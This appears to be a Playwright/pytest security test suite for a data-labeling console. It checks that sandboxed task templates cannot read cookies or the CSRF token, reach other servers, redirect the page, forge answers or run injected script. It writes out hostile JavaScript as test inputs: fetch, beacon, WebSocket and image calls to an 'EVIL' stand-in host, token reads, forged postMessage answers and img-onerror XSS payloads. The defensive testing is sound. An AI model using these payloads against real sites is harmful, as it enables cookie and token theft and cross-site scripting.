"""Templates that are out for something: what their scripts cannot reach, and that workers can leave them."""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from tests.conftest import Server
from tests.console.test_task_frames import CLASSES, frame, lines, said, templated
from tests.support.browser import Visitor, needs_chromium, visitor

from tobo.console import ROOT

pytestmark = needs_chromium


@pytest.fixture
def stranger(browser: Browser, server: Server) -> Iterator[Visitor]:
    """Signed in as the root; the browser complains about what these templates try."""
    with visitor(browser, server) as its:
        its.sign_in()
        yield its


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of a server of somebody else, and what was asked of it."""
    asked: list[str] = []

    class Taker(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *arguments: Any) -> None:
            """Nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Taker) as http:
        Thread(target=http.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{http.server_address[1]}", asked
        http.shutdown()


TRIES = """<form><input name="x" value="1"><pre id="told"></pre></form>
<script>
const told = {}, tried = async (name, deed) => {
  try { told[name] = await deed() } catch (error) { told[name] = error.name }
  document.getElementById("told").textContent = JSON.stringify(told);
};
%s
</script>"""


def tried(page: Page, *names: str) -> dict[str, Any]:
    """What became of the tries, once all of them have ended: the error's name, where it was refused."""
    place = frame(page).locator("#told")
    for name in names:
        expect(place).to_contain_text(f'"{name}"')
    told: dict[str, Any] = json.loads(place.text_content() or "")
    return told


def test_it_reads_nothing_of_the_console(stranger: Visitor, server: Server) -> None:
    tries = {
        "cookie": "document.cookie",
        "storage": "localStorage.length",
        "database": "indexedDB.open('x')",
        "page": "parent.document.body.innerHTML",
        "token": "parent.document.querySelector('meta[name=csrf-token]').content",
        "queue": "parent.document.querySelector('work-bench').queue",
        "name": "frameElement.src",
    }
    script = ";".join(f"tried('{name}', () => {deed})" for name, deed in tries.items())
    page = stranger.go(f"work/{templated(server, TRIES % script)}")
    told = tried(page, *tries)
    assert told.pop("name") in (None, "SecurityError", "TypeError")
    assert told == dict.fromkeys(told, "SecurityError")


def test_it_calls_nothing_and_nobody(stranger: Visitor, server: Server, elsewhere: tuple[str, list[str]]) -> None:
    """Neither the console, nor the API, nor another server, by none of the ways that a page has."""
    address, asked = elsewhere
    ways = "".join(
        f"tried('{name}', () => {deed.replace('EVIL', address)});"
        for name, deed in {
            "fetch": "fetch('EVIL/fetch')",
            "console": f"fetch('{ROOT}/work')",
            "deeds": f"fetch('{ROOT}/work/x/deeds', {{method: 'POST', body: '{{}}'}})",
            "api": "fetch('/', {method: 'POST', headers: {'X-Amz-Target': 'SageMaker.ListEndpoints'}, body: '{}'})",
            "xhr": "new Promise((yes, no) => { const asked = new XMLHttpRequest(); asked.open('GET', 'EVIL/xhr');"
            " asked.onload = yes; asked.onerror = () => no(new TypeError()); asked.send() })",
            "socket": "new Promise((yes, no) => { const its = new WebSocket('EVIL/socket'.replace('http', 'ws'));"
            " its.onopen = yes; its.onerror = () => no(new TypeError()) })",
            "module": "import('EVIL/module.js')",
        }.items()
    )
    others = (
        "new EventSource('EVIL/events'); navigator.sendBeacon('EVIL/beacon', 'x'); new Image().src = 'EVIL/image'; "
        "new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL/worker')\"]))); window.open('EVIL/window'); "
        "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"<img src=EVIL/srcdoc><script>fetch(`EVIL/inner`)<\\/script>\"></iframe>'); "
    )
    markup = """<link rel="stylesheet" href="EVIL/sheet"><link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/load">
    <img src="EVIL/img"><iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object><video src="EVIL/video"></video>
    <style>@import "EVIL/import"; body { background: url(EVIL/ground) }</style><script src="EVIL/script"></script>"""
    template = TRIES % (ways + others.replace("EVIL", address)) + markup.replace("EVIL", address)
    page = stranger.go(f"work/{templated(server, template)}")
    names = ("fetch", "console", "deeds", "api", "xhr", "socket", "module")
    assert tried(page, *names) == dict.fromkeys(names, "TypeError")
    expect(frame(page).get_by_text(f"{address}/img was not loaded")).to_be_visible()
    assert asked == []


@pytest.mark.parametrize(
    "leaving",
    [
        "location = 'EVIL/secret'",
        f"location = '{ROOT}/work'",
        "const form = document.createElement('form'); form.action = 'EVIL/form'; document.body.append(form); form.submit()",
        "top.location = 'EVIL/top'",
        "parent.location = 'EVIL/parent'",
    ],
)
def test_it_leads_nobody_away(
    stranger: Visitor, server: Server, elsewhere: tuple[str, list[str]], leaving: str
) -> None:
    """The page stays where it is, nothing is asked of anybody, and the worker can go on."""
    address, asked = elsewhere
    button = f'<form><button type="button" onclick="{leaving.replace("EVIL", address)}">Go</button></form>'
    name = templated(server, button)
    page = stranger.go(f"work/{name}")
    frame(page).get_by_role("button", name="Go").click()
    if leaving.startswith(("top", "parent")):
        expect(frame(page).get_by_role("button", name="Go")).to_be_visible()
    else:
        expect(page.locator("task-frame")).to_have_text(
            "The template has left its page. Skip this one, and tell who made the job."
        )
    page.locator("summary", has_text="Skip").click()
    page.get_by_role("button", name="None of the classes fits").click()
    frame(page, "0")
    assert page.url.endswith(f"/work/{name}") and asked == []


def test_it_answers_for_its_own_task_alone(stranger: Visitor, server: Server) -> None:
    """Whatever it posts to the page is not heard; its port is that of the task that was shown, and ends with it."""
    forging = """<form><input name="x"><button>Submit</button></form><script>
    addEventListener("message", (event) => {
      const [port] = event.ports;
      for (const to of [parent, top]) {
        to.postMessage(["done", '{"x": "forged"}'], "*");
        to.postMessage({deed: "answer", ItemNumber: 1, Body: '{"x": "forged"}', Seconds: 1}, "*");
      }
      setInterval(() => {
        port.postMessage({deed: "answer", ItemNumber: 1, Body: '{"x": "forged"}'});
        port.postMessage(["deed", '{"x": "forged"}']);
        port.postMessage(["done", "no JSON"]);
        port.postMessage(["done", "[1]"]);
        if (LATE) port.postMessage(["done", '{"x": "forged"}']);
      }, 20);
      addEventListener("submit", () => setTimeout(() => { window.LATE = true }, 100));
    });
    window.LATE = false;
    </script>"""
    name = templated(server, forging, pictures=3)
    page = stranger.go(f"work/{name}")
    for after, words in ((None, "one"), ("0", "two"), ("1", "three")):
        task = frame(page, after)
        task.locator("[name=x]").fill(words)
        task.get_by_role("button", name="Submit").click()
    assert said(server, name) == [{"x": "one"}, {"x": "two"}, {"x": "three"}]


def test_what_it_says_may_be_anything(stranger: Visitor, server: Server) -> None:
    """It is the requester's, text for text; in the requester's own pages it is text as well."""
    mark = '<img src=x onerror="document.title=1">'
    name = templated(
        server, f"<form><input name='__proto__' value='{mark}'><input name='label' value='{mark}'></form>", pictures=1
    )
    page = stranger.go(f"work/{name}")
    frame(page).locator("[name=label]").press("Enter")
    [line] = lines(server, name)
    [one] = line["label"]["annotationsFromAllWorkers"]
    assert json.loads(one["annotationData"]["content"]) == {"__proto__": mark, "label": mark}
    page = stranger.go(f"labeling-jobs/{name}/items/0")
    expect(page.locator(".answers strong")).to_contain_text(mark.replace('"', '\\"'))
    assert page.title() != "1"


def test_a_task_s_input_stays_text(stranger: Visitor, server: Server) -> None:
    mark = "<script>document.title = 'run'</script><img src=x onerror=\"document.title = 'run'\">"
    shown = """<form><p>{{ task.input.source }}</p><crowd-input name="x" label="{{ task.input.source }}"></crowd-input>
    <crowd-classifier name="c" header="{{ task.input.source }}" categories="{{ task.input.source | to_json | prepend: '[' | append: ']' }}">
    </crowd-classifier></form><script>const its = {{ task.input.source | to_json | skip_autoescape }};</script>"""
    page = stranger.go(f"work/{templated(server, shown, texts=[mark])}")
    task = frame(page)
    expect(task.locator("p").first).to_have_text(mark)
    expect(task.get_by_role("option")).to_contain_text(mark)
    assert task.locator("html").evaluate("() => [document.title, its]") == ["Task", mark]


@pytest.mark.parametrize("when", ["for (;;);", "addEventListener('message', () => { for (;;); })"])
def test_who_is_held_up_can_leave(stranger: Visitor, server: Server, when: str) -> None:
    """A script that never ends has a process of its own: the page goes on, and says what the matter is."""
    name = templated(server, f"<form><input name='x'></form><script>{when}</script>")
    page = stranger.go(f"work/{name}")
    words = "The template's page does not answer. Skip this one, and tell who made the job."
    expect(page.locator("task-frame")).to_have_text(words, timeout=20_000)
    page.locator("summary", has_text="Skip").click()
    page.get_by_role("button", name="None of the classes fits").click()
    expect(page.locator("work-bench")).to_have_attribute("data-item", "1")
    page.get_by_role("link", name="Work", exact=True).first.click()
    expect(page.locator("h1")).to_have_text("What waits for you")


def test_the_document_alone_is_as_locked_up(stranger: Visitor, server: Server) -> None:
    """Opened by its address, it is in an origin of its own as well; without a session it is not there."""
    script = "tried('cookie', () => document.cookie); tried('deeds', () => fetch('/'))"
    name = templated(server, TRIES % script)
    at = f"{server.endpoint}{ROOT}/frames/work/{name}/0"
    stranger.page.goto(at)
    place = stranger.page.locator("#told")
    expect(place).to_contain_text("deeds")
    assert json.loads(place.text_content() or "") == {"cookie": "SecurityError", "deeds": "TypeError"}
    stranger.context.clear_cookies()
    stranger.page.goto(at)
    expect(stranger.page.locator("form[action$=enter]").first).to_be_visible()


def test_a_picture_of_its_own_and_no_other(stranger: Visitor, server: Server) -> None:
    """The policy names each picture by its path: other objects, granted elsewhere, are not loaded."""
    name = templated(server, CLASSES, pictures=2)
    page = stranger.go(f"work/{name}")
    frame(page)
    with page.expect_response("**/frames/work/**") as expected:
        page.reload()
    policy = expected.value.headers["content-security-policy"]
    [images] = [part for part in policy.split("; ") if part.startswith("img-src")]
    assert images.count("/photos/000.png") == 1 and "001.png" not in images and "*" not in policy
    assert "unsafe-eval" not in policy and policy.startswith("sandbox allow-scripts allow-forms; default-src 'none'")
